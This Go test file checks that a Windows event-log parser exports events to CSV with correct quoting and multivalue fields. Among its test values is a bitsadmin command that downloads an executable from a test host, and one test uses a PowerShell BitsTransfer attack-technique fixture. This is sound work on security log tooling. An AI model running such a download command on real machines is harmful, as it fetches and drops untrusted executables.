package winevent

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestToCSV(t *testing.T) {
	events := []Event{
		{Fields: map[string][]string{
			"CommandLine": {`bitsadmin /transfer j "http://a.test/x.exe" c:\x.exe`},
			"Data":        {"one $1", "two,2", "three\nlines"},
			"host":        {" padded "},
		}},
		{Fields: map[string][]string{
			"Data": {"single"},
		}},
		{Fields: map[string][]string{}},
	}
	got := string(ToCSV(events, []string{"host", "CommandLine", "Data", "Image"}))
	want := "host,CommandLine,Data,__mv_Data,Image\n" +
		`" padded ","bitsadmin /transfer j ""http://a.test/x.exe"" c:\x.exe","one $1` + "\ntwo,2\nthree\nlines" + `","$one $$1$;$two,2$;$three` + "\n" + `lines$",` + "\n" +
		",,single,,\n" +
		",,,,\n"
	if got != want {
		t.Errorf("ToCSV =\n%s\nwant\n%s", got, want)
	}

	// A standard CSV reader recovers every cell, so the quoting is sound.
	records, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	wantRecords := [][]string{
		{"host", "CommandLine", "Data", "__mv_Data", "Image"},
		{" padded ", `bitsadmin /transfer j "http://a.test/x.exe" c:\x.exe`, "one $1\ntwo,2\nthree\nlines", "$one $$1$;$two,2$;$three\nlines$", ""},
		{"", "", "single", "", ""},
		{"", "", "", "", ""},
	}
	if diff := cmp.Diff(wantRecords, records); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func TestToCSVNoMultivalueNoEvents(t *testing.T) {
	if got, want := string(ToCSV(nil, []string{"a", "b c", "d,e"})), "a,b c,\"d,e\"\n"; got != want {
		t.Errorf("ToCSV(nil) = %q, want %q", got, want)
	}
}

func TestToCSVFixtureRoundTrip(t *testing.T) {
	// The real 800 events (text with CR LF, tabs, quotes) survive a CSV
	// reader; encoding/csv turns a quoted CR LF into LF, so compare with that.
	var events []Event
	for _, line := range fixtureLines(t, "evtx-to-mitre-attack/powershell_800-4103-4104_start-bitstransfer.xml.log") {
		e, err := Parse(line)
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
	fields := []string{"_time", "EventCode", "Data", "ScriptBlockText", "Payload"}
	records, err := csv.NewReader(strings.NewReader(string(ToCSV(events, fields)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(events)+1 {
		t.Fatalf("%d records for %d events", len(records), len(events))
	}
	for i, e := range events {
		for j, field := range fields {
			want := strings.ReplaceAll(strings.Join(e.Fields[field], "\n"), "\r\n", "\n")
			if got := records[i+1][j]; got != want {
				t.Errorf("event %d %s = %q, want %q", i+1, field, clip(got), clip(want))
			}
		}
	}
}
